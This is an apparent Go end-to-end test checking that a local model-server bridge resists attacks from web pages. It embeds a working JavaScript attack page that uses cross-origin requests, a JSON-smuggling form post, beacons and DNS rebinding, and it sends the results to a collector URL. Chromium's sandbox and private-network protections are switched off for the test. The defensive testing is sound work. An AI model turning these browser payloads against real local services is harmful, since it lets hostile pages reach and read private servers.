//go:build e2e && browser

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/culvert-net/culvert/api/backend/backendtest"
)

// attacks is the script of a page that tries to use an OpenAI server at BASE,
// and says what it could read. What it can do without being told the answer
// shows at the model server.
const attacks = `
const base = BASE, said = {};
const chat = JSON.stringify({model: "m", messages: [{role: "user", content: MARK}]});
async function attempt(name, f) {
  try { said[name] = String(await f()); } catch (e) { said[name] = ""; }
}
(async () => {
  const read = async (path, options) => (await fetch(base + path, options)).text();
  await attempt("models", () => read("/models"));
  await attempt("models, with credentials", () => read("/models", {credentials: "include"}));
  await attempt("models, opaque", () => read("/models", {mode: "no-cors"}));
  await attempt("chat as JSON", () => read("/chat/completions", {method: "POST", body: chat, headers: {"Content-Type": "application/json"}}));
  await attempt("chat with a key", () => read("/chat/completions", {method: "POST", body: chat, headers: {"Content-Type": "application/json", "Authorization": "Bearer any"}}));
  await attempt("chat as text", () => read("/chat/completions", {method: "POST", body: chat, mode: "no-cors", headers: {"Content-Type": "text/plain"}}));
  await attempt("chat as a blob of JSON", () => read("/chat/completions", {method: "POST", body: new Blob([chat], {type: "application/json"}), mode: "no-cors"}));
  await attempt("chat without a type", () => read("/chat/completions", {method: "POST", body: new Uint8Array([...chat].map(c => c.charCodeAt(0))), mode: "no-cors"}));
  await attempt("chat as a beacon", () => { navigator.sendBeacon(base + "/chat/completions", chat); return ""; });
  await attempt("script", () => new Promise((done, fail) => {
    const s = document.createElement("script"); s.src = base + "/models"; s.onload = () => done("loaded"); s.onerror = fail; document.head.append(s);
  }));
  await attempt("events", () => new Promise((done, fail) => {
    const e = new EventSource(base + "/models"); e.onopen = () => { e.close(); done("open"); }; e.onerror = () => { e.close(); fail(); };
  }));
  await attempt("socket", () => new Promise((done, fail) => {
    const s = new WebSocket(base.replace("http", "ws") + "/models"); s.onopen = () => done("open"); s.onerror = fail;
  }));
  await attempt("frame", () => new Promise((done, fail) => {
    const f = document.createElement("iframe"); f.src = base + "/models";
    f.onload = () => { try { done(f.contentDocument.body.textContent); } catch (e) { fail(e); } }; document.body.append(f);
  }));
  await attempt("form", () => new Promise((done) => {
    const f = document.createElement("form"), i = document.createElement("input"), t = document.createElement("iframe");
    t.name = "t"; t.onload = () => done(""); f.method = "POST"; f.enctype = "text/plain"; f.target = "t"; f.action = base + "/chat/completions";
    i.name = chat.slice(0, -1) + ',"x":"'; i.value = '"}'; f.append(i); document.body.append(t, f); f.submit();
  }));
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
})();
`

// visit has a browser open page, whose origin attacks the server at base, and
// returns what the page could read, by attack.
func visit(t *testing.T, page, base, mark string, rebound http.Handler) map[string]string {
	t.Helper()
	reports := make(chan map[string]string, 1)
	var own *httptest.Server
	own = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodConnect:
			http.Error(w, "", http.StatusBadGateway)
		case r.URL.Path == "/report":
			var said map[string]string
			text, _ := io.ReadAll(r.Body)
			if json.Unmarshal(text, &said) == nil {
				reports <- said
			}
		case r.URL.Path == "/page":
			script := strings.NewReplacer("BASE", quoted(base), "MARK", quoted(mark), "REPORT", quoted(own.URL+"/report")).Replace(attacks)
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, "<!doctype html><body><script>%s</script>", script)
		case rebound != nil:
			rebound.ServeHTTP(w, r)
		default:
			http.NotFound(w, r)
		}
	}))
	defer own.Close()
	if page == "" {
		page = strings.Replace(own.URL, "127.0.0.1", "localhost", 1) + "/page"
	}
	args := []string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
		"--disable-background-networking", "--disable-component-update", "--user-data-dir=" + t.TempDir(),
		// Browsers begin to ask before a page may talk to this machine. Not all
		// do, and people click yes.
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
	}
	if rebound != nil {
		args = append(args, "--proxy-server="+own.URL)
	}
	browser := exec.Command("chromium", append(args, page)...)
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = browser.Process.Kill()
		_ = browser.Wait() // killed
	}()
	select {
	case said := <-reports:
		return said
	case <-time.After(longest):
		t.Fatal("the browser did not run the page")
		return nil
	}
}

func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err) // strings marshal
	}
	return string(b)
}

// A page that a user of Culvert visits cannot use it: neither from another
// origin, nor by a name that was made to mean this machine after the page was
// loaded. The same page uses an unguarded server in both ways, which shows
// that the attacks are ones.
func TestBrowserCannotCall(t *testing.T) {
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Skip("SKIP TestBrowserCannotCall: chromium is not installed (Debian: apt-get install chromium)")
	}
	var reached atomic.Int64
	u := upstream(t, func(w http.ResponseWriter, r *http.Request, c *backendtest.Call) {
		reached.Add(1)
		backendtest.Answer(backendtest.Completion)(w, r, c)
	})
	w := start(t, "--backend", u.URL)
	if err := w.ask(chatBody(false)).whole(backendtest.Completion); err != nil {
		t.Fatal(err)
	}
	bare := strings.TrimSuffix(u.URL, "/") + "/v1"
	for _, attack := range []struct{ name, page string }{
		{"another origin", ""},
		// The name leads to the attacker's server for its page and to this
		// machine for the rest: here by way of a proxy.
		{"rebinding", "http://rebound.example:%s/page"},
	} {
		t.Run(attack.name, func(t *testing.T) {
			for _, victim := range []struct {
				name, base string
				guarded    bool
			}{{"unguarded", bare, false}, {"bridge", w.BaseURL, true}} {
				base, page := victim.base, attack.page
				var rebound http.Handler
				if page != "" {
					there, err := url.Parse(victim.base)
					if err != nil {
						t.Fatal(err)
					}
					_, port, _ := net.SplitHostPort(there.Host)
					page = fmt.Sprintf(page, port)
					base = strings.TrimSuffix(page, "/page") + there.Path
					rebound = &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
						r.Out.URL.Scheme, r.Out.URL.Host = "http", there.Host
						r.Out.Host = r.In.Host // as the browser sent it
					}}
				}
				before := reached.Load()
				said := visit(t, page, base, "from-a-page", rebound)
				got := reached.Load() - before
				readable := 0
				for name, text := range said {
					if text == "" {
						continue
					}
					if strings.Contains(text, `"object"`) || text == "loaded" || text == "open" {
						readable++
						if victim.guarded {
							t.Errorf("%s: the page read %.80q", name, text)
						}
					}
				}
				t.Logf("%s: %d requests answered, %d answers read, of %d attacks", victim.name, got, readable, len(said))
				switch {
				case len(said) < 12:
					t.Errorf("%s: the page tried %d attacks", victim.name, len(said))
				case victim.guarded && got > 0:
					t.Errorf("%d requests of a page reached the model server", got)
				case !victim.guarded && got < 3:
					t.Errorf("%d requests reached an unguarded server; the attacks are too weak to show anything", got)
				case !victim.guarded && attack.page != "" && readable == 0:
					t.Error("no answer of an unguarded server could be read after rebinding; want one")
				}
			}
		})
	}
}
